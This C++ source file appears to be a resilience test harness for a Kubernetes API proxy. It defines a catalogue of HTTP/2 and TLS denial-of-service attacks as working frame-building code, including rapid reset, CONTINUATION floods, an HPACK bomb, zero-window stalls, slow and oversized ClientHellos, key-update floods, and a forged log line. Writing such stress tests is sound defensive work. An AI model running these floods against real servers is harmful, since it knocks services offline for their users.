// SPDX-License-Identifier: GPL-3.0-or-later
// The attacks. Strangers have a certificate and a token (both of "mallory") where it says so; what
// they do is what HTTP/2 and TLS let anybody do who has a connection.
#include <array>

#include "frames.h"
#include "strangers.h"

namespace sluice::attack {
namespace {

using test::big_endian;
using test::FrameWriter;
using test::hpack_get;
using test::hpack_literal;
using test::hpack_post;
using test::Indexing;
namespace frame = test::frame;

constexpr std::string_view object_path = "/api/v1/namespaces/bench/configmaps/kb-1";
constexpr std::string_view create_path = "/api/v1/namespaces/default/configmaps";
constexpr std::string_view list_1m_path = "/api/v1/namespaces/bench-1m/configmaps";
constexpr std::string_view list_10m_path = "/api/v1/namespaces/bench-10m/configmaps";
constexpr std::string_view watch_path =
    "/api/v1/pods?watch=1&allowWatchBookmarks=true&resourceVersion=0";
constexpr std::string_view log_path = "/api/v1/namespaces/default/pods/pod-00000/log?follow=true";
const std::string token = "token-mallory";

std::string as_mallory(std::string block) {
  return block + hpack_literal("authorization", "Bearer " + token);
}
// Streams of a client are odd.
std::uint32_t stream(std::uint64_t n) { return static_cast<std::uint32_t>(1 + 2 * n); }
const std::string& preface() {
  static const std::string text = FrameWriter().preface().window_update(0, 1U << 30).text();
  return text;
}
void send_preface(Call& call, std::uint64_t) { call.send(preface()); }

// Requests whose answers, or whatever follows, find a window of nothing.
std::string with_closed_windows(std::string_view block, std::uint64_t count) {
  FrameWriter writer;
  writer.magic().settings({{frame::initial_window_size, 0}});
  for (std::uint64_t i = 0; i < count; ++i) writer.headers(stream(i), block);
  return writer.text();
}

// One large field, and its index (RFC 7541 section 6.1: 62) again and again.
std::string repeated_heads(std::uint64_t streams, std::size_t times) {
  FrameWriter writer;
  writer.magic().settings({{frame::initial_window_size, 0}});
  for (std::uint64_t i = 0; i < streams; ++i) {
    std::string block = hpack_get("/%zz");
    if (i == 0) block += hpack_literal("x", std::string(3500, 'v'), Indexing::incremental);
    writer.long_headers(stream(i), block + std::string(times, '\xbe'));
  }
  return writer.text();
}

// A ClientHello of `bytes` in all, of which the record layer announces everything.
std::string large_hello(std::size_t bytes) {
  std::string hello = "\x01" + big_endian(bytes - 4, 3) + std::string(bytes - 4, '\x03');
  std::string records;
  for (std::size_t at = 0; at < hello.size(); at += 16'384) {
    const std::string piece = hello.substr(at, 16'384);
    records += "\x16\x03\x01" + big_endian(piece.size(), 2) + piece;
  }
  return records;
}

std::string client_hello(const Credentials& credentials) {
  const auto engine =
      tls::Engine::client(credentials.nobody(), "kubernetes.default.svc.cluster.local").value();
  engine->handshake();
  std::vector<std::uint8_t> memory(20'000);
  tls::RecordBuffer records{memory.data(), 0, memory.size()};
  engine->take_pending(records);
  return std::string(as_text({memory.data(), records.size}));
}

// What a peer must answer by resetting the stream, in six ways, or by ending the connection.
void provoke_a_reset(FrameWriter& writer, std::uint32_t id, std::uint64_t way) {
  const std::string post = as_mallory(hpack_post(create_path));
  switch (way % 6) {
    case 0:  // a content-length that is not kept
      writer.headers(id, post + hpack_literal("content-length", "5"), false)
          .data(id, "123456789", true);
      break;
    case 1:  // a field that HTTP/2 does not have
      writer.headers(id, as_mallory(hpack_get(object_path)) + hpack_literal("connection", "close"));
      break;
    case 2: writer.headers(id, post, false).window_update(id, 0); break;
    case 3: writer.headers(id, as_mallory(hpack_get(object_path))).data(id, "x"); break;
    case 4:
      writer.headers(id, post, false)
          .frame(frame::priority, 0, id, std::string_view("\0\0\0\0", 4));
      break;
    default: writer.headers(id, post, false).window_update(id, 0x7fffffff); break;
  }
}

// --- each kind ---------------------------------------------------------------------------------

// With `begin` alone, over and over.
Script script(const Field& field, std::size_t connections,
              std::function<void(Call&, std::uint64_t)> begin, Clock::duration life) {
  Script made;
  made.destination = field.destination();
  made.connections = connections;
  made.begin = std::move(begin);
  made.life = life;
  return made;
}

// After the preface, without end.
Script flood(const Field& field, std::size_t connections,
             std::function<std::string(std::uint64_t number, std::uint64_t step)> make,
             std::string first = preface()) {
  Script made;
  made.destination = field.destination();
  made.connections = connections;
  made.begin = [first = std::move(first)](Call& call, std::uint64_t) { call.send(first); };
  made.more = [make = std::move(make)](Call& call, std::uint64_t number, std::uint64_t step) {
    call.send(make(number, step));
  };
  return made;
}

Script without_tls(const Field& field, std::size_t connections, double opens_per_second) {
  Script made;
  made.destination = field.destination();
  made.destination.tls = nullptr;
  made.connections = connections;
  made.opens_per_second = opens_per_second;
  return made;
}

Asking asking(const Field& field, std::size_t connections, std::size_t at_once,
              std::function<Request(std::uint64_t)> next) {
  Asking made;
  made.destination = field.destination();
  made.connections = connections;
  made.at_once = at_once;
  made.next = std::move(next);
  return made;
}

std::unique_ptr<Stranger> rapid_reset(Field& field) {
  return follow(field, flood(field, 4, [](std::uint64_t, std::uint64_t step) {
                  FrameWriter writer;
                  const std::string block = as_mallory(hpack_get(object_path));
                  for (std::uint64_t i = 0; i < 100; ++i) {
                    const std::uint32_t id = stream(step * 100 + i);
                    writer.headers(id, block).rst_stream(id, 8);
                  }
                  return writer.text();
                }));
}

std::unique_ptr<Stranger> made_you_reset(Field& field) {
  return follow(field, flood(field, 6, [](std::uint64_t number, std::uint64_t step) {
                  FrameWriter writer;
                  for (std::uint64_t i = 0; i < 50; ++i) {
                    provoke_a_reset(writer, stream(step * 50 + i), number);
                  }
                  return writer.text();
                }));
}

std::unique_ptr<Stranger> continuation(Field& field) {
  const std::string head =
      preface() + FrameWriter().headers(1, hpack_get(object_path), true, false).text();
  return follow(field, flood(
                           field, 4,
                           [](std::uint64_t number, std::uint64_t step) {
                             FrameWriter writer;
                             if (number % 2 == 1) {
                               for (int i = 0; i < 1000; ++i) writer.continuation(1, "", false);
                               return writer.text();
                             }
                             std::string fields;
                             for (int i = 0; i < 200; ++i) {
                               fields += hpack_literal(fmt::format("x-{}-{}", step, i),
                                                       std::string(60, 'v'));
                             }
                             return writer.continuation(1, fields, false).text();
                           },
                           head));
}

std::unique_ptr<Stranger> empty_frames(Field& field) {
  const std::string head =
      preface() + FrameWriter().headers(1, as_mallory(hpack_post(create_path)), false).text();
  return follow(field, flood(
                           field, 4,
                           [](std::uint64_t, std::uint64_t) {
                             FrameWriter writer;
                             for (int i = 0; i < 1000; ++i) writer.data(1, "");
                             return writer.text();
                           },
                           head));
}

std::unique_ptr<Stranger> pings(Field& field) {
  Script made = flood(field, 4, [](std::uint64_t, std::uint64_t step) {
    FrameWriter writer;
    for (std::uint64_t i = 0; i < 1000; ++i) writer.ping(step * 1000 + i);
    return writer.text();
  });
  made.reads = false;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> settings(Field& field) {
  Script made = flood(field, 4, [](std::uint64_t, std::uint64_t) {
    FrameWriter writer;
    for (std::uint32_t i = 0; i < 1000; ++i) writer.settings({{frame::initial_window_size, i}});
    return writer.text();
  });
  made.reads = false;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> priorities(Field& field) {
  return follow(field, flood(field, 4, [](std::uint64_t, std::uint64_t step) {
                  FrameWriter writer;
                  for (std::uint64_t i = 0; i < 500; ++i) {
                    writer.priority(stream(step * 500 + i), 0)
                        .frame(frame::unknown, 0, 0, "12345678")
                        .frame(frame::priority_update, 0, 0, big_endian(1, 4) + "u=0");
                  }
                  return writer.text();
                }));
}

std::unique_ptr<Stranger> drip(Field& field) {
  constexpr std::uint64_t streams = 100;
  Script made = flood(
      field, 4,
      [](std::uint64_t, std::uint64_t) {
        FrameWriter writer;
        for (std::uint64_t i = 0; i < streams; ++i) writer.window_update(stream(i), 1);
        return writer.text();
      },
      with_closed_windows(as_mallory(hpack_get(list_1m_path)), streams));
  made.interval = 50ms;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> window_overflow(Field& field) {
  const auto begin = [](Call& call, std::uint64_t number) {
    FrameWriter writer;
    writer.magic();
    if (number % 2 == 0) {
      writer.settings().window_update(0, 0x7fffffff).window_update(0, 0x7fffffff);
    } else {
      writer.settings({{frame::initial_window_size, 0x7fffffff}})
          .headers(1, as_mallory(hpack_get(list_1m_path)))
          .window_update(1, 0x7fffffff)
          .settings({{frame::initial_window_size, 0}});
    }
    call.send(writer.text());
  };
  return follow(field, script(field, 8, begin, 1s));
}

std::unique_ptr<Stranger> slow_heads(Field& field) {
  std::string head = preface();
  head += FrameWriter().header(4000, frame::headers, frame::end_headers, 1).text();
  Script made =
      flood(field, 300, [](std::uint64_t, std::uint64_t) { return std::string(1, '\x88'); }, head);
  made.interval = 500ms;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> slow_hellos(Field& field) {
  Script made = without_tls(field, 1000, 2000);
  made.more = [hello = client_hello(field.credentials)](Call& call, std::uint64_t,
                                                        std::uint64_t step) {
    if (step < hello.size() - 1) call.send_wire(hello.substr(step, 1));
  };
  made.interval = 250ms;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> large_hellos(Field& field) {
  Script made = without_tls(field, 32, 1000);
  made.begin = [hello = large_hello(65'536)](Call& call, std::uint64_t) { call.send_wire(hello); };
  made.life = 1s;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> hellos(Field& field) {
  Script made = without_tls(field, 64, 5000);
  made.begin = [hello = client_hello(field.credentials)](Call& call, std::uint64_t) {
    call.send_wire(hello);
  };
  made.ends_when_answered = true;
  made.life = 2s;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> garbage(Field& field) {
  Script made = without_tls(field, 32, 1000);
  made.begin = [](Call& call, std::uint64_t number) {
    if (number % 2 == 0) {
      call.send_wire(fmt::format("GET /{}\r\nforged: line HTTP/1.1\r\n\r\n", number));
    } else {
      call.send_wire(std::string(512, '\xa5'));
    }
  };
  made.ends_when_answered = true;
  made.life = 1s;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> stalled_watches(Field& field) {
  Script made = script(
      field, 4,
      [](Call& call, std::uint64_t) {
        call.send(with_closed_windows(as_mallory(hpack_get(watch_path)), 200));
      },
      1h);
  made.reads = false;
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> half_uploads(Field& field) {
  return follow(field, script(
                           field, 4,
                           [](Call& call, std::uint64_t) {
                             FrameWriter writer;
                             writer.preface();
                             const std::string block = as_mallory(hpack_post(create_path));
                             const std::string body(15'000, 'x');
                             for (std::uint64_t i = 0; i < 200; ++i) {
                               writer.headers(stream(i), block, false);
                               for (int k = 0; k < 4; ++k) writer.data(stream(i), body);
                             }
                             call.send(writer.text());
                           },
                           10s));
}

// Our own library would not make so many.
std::unique_ptr<Stranger> key_updates(Field& field) {
  Script made = flood(field, 4, {});
  made.destination.foreign = true;
  made.more = [](Call& call, std::uint64_t, std::uint64_t) {
    for (int i = 0; i < 100; ++i) call.send_key_update();
  };
  return follow(field, std::move(made));
}

// Of frames that mean nothing, so that nothing but records is spent.
std::unique_ptr<Stranger> tiny_records(Field& field) {
  constexpr std::uint64_t at_once = 500;
  Script made = flood(field, 4, {});
  made.more = [frames = FrameWriter().frame(frame::unknown, 0, 0, std::string(16'000, 'x')).text()](
                  Call& call, std::uint64_t, std::uint64_t step) {
    for (std::uint64_t i = 0; i < at_once; ++i) {
      call.send(frames.substr((step * at_once + i) % frames.size(), 1));
    }
  };
  return follow(field, std::move(made));
}

std::unique_ptr<Stranger> made_up_tokens(Field& field) {
  return keep_asking(field, asking(field, 4, 100, [](std::uint64_t number) {
                       const std::string made_up = fmt::format("made-up-{}", number / 2);
                       return number % 2 == 0
                                  ? Request{.path = "/api?timeout=bogus", .token = made_up}
                                  : Request{.path = std::string(object_path), .token = made_up};
                     }));
}

std::unique_ptr<Stranger> aggregated(Field& field) {
  const std::string instead = field.credentials.instead("mallory");
  Asking made = asking(field, 2, 10, [instead](std::uint64_t) {
    return Request{.path = "/apis/refusing.example.com/v1/things", .token = instead};
  });
  made.destination = field.destination("mallory");
  return keep_asking(field, std::move(made));
}

// A request that is always the same, by mallory's token unless without any.
std::unique_ptr<Stranger> ask_for(Field& field, std::size_t connections, std::size_t at_once,
                                  std::string_view path, bool reads = true,
                                  double per_second = 5000, const std::string& by = token) {
  Asking made = asking(field, connections, at_once, [path, reads, by](std::uint64_t) {
    return Request{.path = std::string(path), .token = by, .reads = reads};
  });
  made.per_second = per_second;
  return keep_asking(field, std::move(made));
}

}  // namespace

const std::vector<Attack>& attacks() {
  static const std::vector<Attack> all = {
      {"heads", "heads of 210 KB out of 60 bytes each, answers with a window of 0", 12,
       [](Field& f) {
         return follow(
             f,
             script(
                 f, 12, [](Call& call, std::uint64_t) { call.send(repeated_heads(240, 60)); }, 1s));
       }},
      {"hpack-bomb", "heads of 56 MB out of 16 KB each, likewise", 12,
       [](Field& f) {
         return follow(
             f, script(
                    f, 12,
                    [](Call& call, std::uint64_t) { call.send(repeated_heads(100, 16'000)); }, 2s));
       }},
      {"anonymous", "4 x 250 requests without a credential in flight", 4,
       [](Field& f) { return ask_for(f, 4, 250, "/version", true, 5000, ""); }},
      {"made-up-tokens", "4 x 100, \"proven\" by an answer that anybody gets", 4, made_up_tokens},
      {"aggregated", "401s of an aggregated API", 2, aggregated},
      {"logs", "1500 log follows, API servers that send GOAWAY now and then", 6,
       [](Field& f) { return ask_for(f, 6, 250, log_path); }},
      {"watches", "2400 watches of one token", 12,
       [](Field& f) { return ask_for(f, 12, 200, watch_path); }},
      {"stalled-watches", "4 x 200 watches that nobody reads, windows of 0", 4, stalled_watches},
      {"lists", "100 lists of 1 MB a second", 4,
       [](Field& f) { return ask_for(f, 4, 25, list_1m_path, true, 100); }},
      {"unread-lists", "8 x 200 lists of 10 MB that nobody reads beyond 1 MB", 8,
       [](Field& f) { return ask_for(f, 8, 200, list_10m_path, false); }},
      {"zero-window", "8 x 200 lists of 10 MB with windows of 0", 8,
       [](Field& f) {
         return follow(
             f, script(
                    f, 8,
                    [](Call& call, std::uint64_t) {
                      call.send(with_closed_windows(as_mallory(hpack_get(list_10m_path)), 200));
                    },
                    1h));
       }},
      {"drip", "4 x 100 lists whose windows open by single bytes", 4, drip},
      {"half-uploads", "4 x 200 uploads that stop after 60 KB", 4, half_uploads},
      {"rapid-reset", "requests that are cancelled at once", 4, rapid_reset},
      {"made-you-reset", "requests that must be reset, in six ways", 6, made_you_reset},
      {"continuation", "heads without an end, of fields or of empty frames", 4, continuation},
      {"empty-frames", "empty DATA without end", 4, empty_frames},
      {"pings", "PINGs whose answers nobody reads", 4, pings},
      {"settings", "SETTINGS, likewise", 4, settings},
      {"priorities", "PRIORITY, PRIORITY_UPDATE and unknown frames", 4, priorities},
      {"window-overflow", "windows above 2^31, negative ones", 8, window_overflow},
      {"slow-heads", "300 heads, a byte each half second", 300, slow_heads},
      {"slow-hellos", "1000 ClientHellos, a byte each quarter of a second", 1000, slow_hellos},
      {"large-hellos", "ClientHellos of 64 KB", 32, large_hellos},
      {"hellos", "handshakes that are never finished, 64 at once", 64, hellos},
      {"key-updates", "TLS key updates without end", 4, key_updates},
      {"tiny-records", "TLS records of one byte", 4, tiny_records},
      {"silent", "3000 connections that send nothing", 3000,
       [](Field& f) { return follow(f, without_tls(f, 3000, 3000)); }},
      {"idle", "1000 connections with TLS and HTTP/2, and no request", 1000,
       [](Field& f) {
         Script made = script(f, 1000, send_preface, 1h);
         made.opens_per_second = 500;
         return follow(f, std::move(made));
       }},
      {"churn", "3000 connections a second that are reset at once", 64,
       [](Field& f) {
         Script made = without_tls(f, 64, 3000);
         made.life = Clock::duration::zero();
         return follow(f, std::move(made));
       }},
      {"garbage", "connections that speak no TLS, with forged lines for a log", 32, garbage},
  };
  return all;
}

}  // namespace sluice::attack
